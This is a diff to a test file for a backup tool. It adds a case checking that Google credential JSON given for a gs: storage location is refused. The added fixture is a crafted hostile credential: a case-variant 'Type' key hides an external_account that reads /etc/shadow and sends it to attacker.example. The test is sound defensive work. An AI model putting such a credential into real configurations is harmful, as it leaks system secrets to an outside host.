@@ -122,6 +122,17 @@ describe("credentials of a storage", () => {
   it.each([
     ["names a file to send", { type: "external_account", credential_source: { file: "/etc/shadow" } }],
     ["is no account", "/run/secrets/google.json"],
+    [
+      "names a file to send, by a key in other letters, which counts for restic",
+      {
+        type: "service_account",
+        Type: "external_account",
+        audience: "//iam.googleapis.com/x",
+        subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
+        token_url: "https://attacker.example/token",
+        credential_source: { file: "/etc/shadow" },
+      },
+    ],
   ])("of gs: are refused when the file %s", async (_what, given) => {
     const secrets = await filesOf({ GOOGLE_APPLICATION_CREDENTIALS: JSON.stringify(given) });
     const { failure } = await host.backup(host.work({ location: "gs:bucket:/path", secrets }));
